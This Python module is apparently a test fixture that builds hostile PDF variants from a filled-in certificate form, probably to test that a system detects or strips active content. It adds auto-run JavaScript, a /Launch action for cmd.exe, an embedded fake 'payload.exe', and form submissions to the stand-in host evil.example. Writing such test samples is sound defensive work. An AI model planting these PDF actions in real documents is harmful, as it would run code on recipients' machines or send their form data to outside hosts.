"""PDFs that carry active content, built from the office's own certificate form.

Each is a real returned certificate (so it is recognised and read) with one thing added
that a viewer could run: the attacks of issue 12, point 13.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

FORMS = Path(__file__).resolve().parents[1] / "forms"
ALERT = "app.alert('docgen was here'); this.submitForm('http://evil.example/');"


def _writer() -> PdfWriter:
    writer = PdfWriter(clone_from=str(FORMS / "certificate_of_attendance.pdf"))
    values = {
        "participant_name": "Ana Pop",
        "actual_start": "2026-03-09",
        "actual_end": "2026-03-13",
        "days": "5",
    }
    for page in writer.pages:
        writer.update_page_form_field_values(page, values, auto_regenerate=False)
    return writer


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
    )
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return action


def open_action_js(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        _action("/JavaScript", JS=TextStringObject(ALERT))
    )


def document_js(writer: PdfWriter) -> None:
    """Document-level JavaScript: the catalogue's /Names /JavaScript tree."""
    tree = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [
                    TextStringObject("init"),
                    writer._add_object(_action("/JavaScript", JS=TextStringObject(ALERT))),
                ]
            )
        }
    )
    names = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    writer._root_object[NameObject("/Names")] = writer._add_object(names)


def launch(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/Launch", F=TextStringObject("cmd.exe")
    )


def embedded_file(writer: PdfWriter) -> None:
    writer.add_attachment("payload.exe", b"MZ not really a program")


def submit_form(writer: PdfWriter) -> None:
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 60, 30)]),
            NameObject("/A"): _action(
                "/SubmitForm", F=TextStringObject("http://evil.example/collect")
            ),
        }
    )
    page = writer.pages[0]
    annots = page.get("/Annots")
    annots = annots.get_object() if annots is not None else ArrayObject()
    annots.append(writer._add_object(link))
    page[NameObject("/Annots")] = annots


ATTACKS: dict[str, Callable[[PdfWriter], None]] = {
    "open_action_js": open_action_js,
    "document_js": document_js,
    "launch": launch,
    "embedded_file": embedded_file,
    "submit_form": submit_form,
}


def hostile_pdf(attack: str) -> bytes:
    writer = _writer()
    ATTACKS[attack](writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def plain_pdf() -> bytes:
    out = io.BytesIO()
    _writer().write(out)
    return out.getvalue()
